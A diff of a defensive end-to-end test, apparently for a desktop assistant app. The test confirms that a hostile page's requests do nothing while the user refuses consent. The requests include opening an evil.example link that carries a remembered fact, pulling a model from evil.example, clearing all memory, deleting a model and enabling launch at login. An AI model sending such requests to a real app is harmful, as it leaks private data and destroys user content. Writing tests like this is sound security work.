@@ -108,6 +108,10 @@ test('a page that sends every dangerous request gets nothing done while nobody s
     const linked = await window.hearth.request('project:link', {});
     return linked.ok ? (linked.value?.id ?? '') : '';
   });
+  const placeIds = await page.evaluate(async () => {
+    const found = await window.hearth.request('forget:find', { text: 'hydrographer' });
+    return found.ok ? found.value.map((place) => place.id) : [];
+  });
   const before = await page.evaluate(async () => JSON.stringify(await window.hearth.request('settings:get', {})));
   const person = await answerConsent(app, 'no');
   const codes: string[] = [];
@@ -125,7 +129,7 @@ test('a page that sends every dangerous request gets nothing done while nobody s
   await send('settings:set', { key: 'app.launch_at_login', value: true });
   await send('app:open-link', { url: 'https://evil.example/?fact=hydrographer' });
   await send('project:trust', { id, isTrusted: true });
-  await send('forget:apply', { text: 'the', placeIds: [] });
+  await send('forget:apply', { text: 'hydrographer', placeIds });
   await send('memory:clear-everything', { name: 'Personal' });
   await send('model:delete', { name: 'stand-in:latest' });
   await send('model:pull', { name: 'evil.example/x/y' });
